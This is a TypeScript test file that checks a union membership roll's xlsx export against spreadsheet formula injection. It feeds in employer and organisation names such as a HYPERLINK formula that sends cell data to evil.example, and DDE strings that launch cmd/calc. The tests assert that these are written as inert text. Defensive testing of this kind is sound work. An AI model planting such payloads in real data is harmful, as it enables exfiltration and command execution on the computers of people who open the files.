import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { useTestApp, type TestApp } from '../../../test/harness/app.js';
import { approvedMember, makeIdNumber } from '../../../test/harness/members.js';

async function exportRoll(t: TestApp, query: string): Promise<ExcelJS.Worksheet> {
  const r = await t.request({
    method: 'GET',
    url: `/api/console/members/export.xlsx?${query}&reason=${encodeURIComponent('核对导出内容')}`,
    cookie: await t.staffCookie('keqiao'),
  });
  expect(r.statusCode, r.body).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
  return workbook.worksheets[0]!;
}

// OWASP's advice for CSV/formula injection: a text cell a spreadsheet would run as a formula is written
// with a leading apostrophe, as text; nothing a member or a union typed becomes a formula in the export.
describe('the roll export and formula injection', () => {
  const h = useTestApp();

  it('writes an employer name set through a join that starts with =, +, -, @, tab or CR as text with a leading apostrophe', async () => {
    const { t } = h;
    const employers = [
      '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
    ];
    for (const [i, employerName] of employers.entries()) {
      await approvedMember(t, {
        name: `钱${'一二三四五六'[i]}`,
        idNumber: makeIdNumber('330621', '19920303', 401 + i),
        trade: 'security_guard',
        employerName,
      });
    }
    const sheet = await exportRoll(t, 'trade=security_guard');
    const employerColumn = 9;
    const written: unknown[] = [];
    sheet.eachRow((row, n) => {
      if (n > 4) written.push(row.getCell(employerColumn).value);
    });
    // Leading white space is trimmed when the application is taken; what is stored is written safely.
    expect(written.sort()).toEqual(employers.map((e) => `'${e.trim()}`).sort());
    for (const value of written) expect(typeof value).toBe('string');
  });

  it('neutralises an organisation name that would be a formula in the title row', async () => {
    const { t } = h;
    const name = '=HYPERLINK("http://evil.example","柯桥")工会';
    const created = await t.request({
      method: 'POST',
      url: '/api/console/orgs',
      cookie: await t.staffCookie('keqiao'),
      body: { parentId: t.demo.keqiao.id, kind: 'township', name, regionCode: '330603004' },
    });
    expect(created.statusCode, created.body).toBe(201);
    const sheet = await exportRoll(t, `orgId=${created.json().id}`);
    expect(sheet.getCell('A1').value).toBe(`'${name} 会员名册`);
  });
});
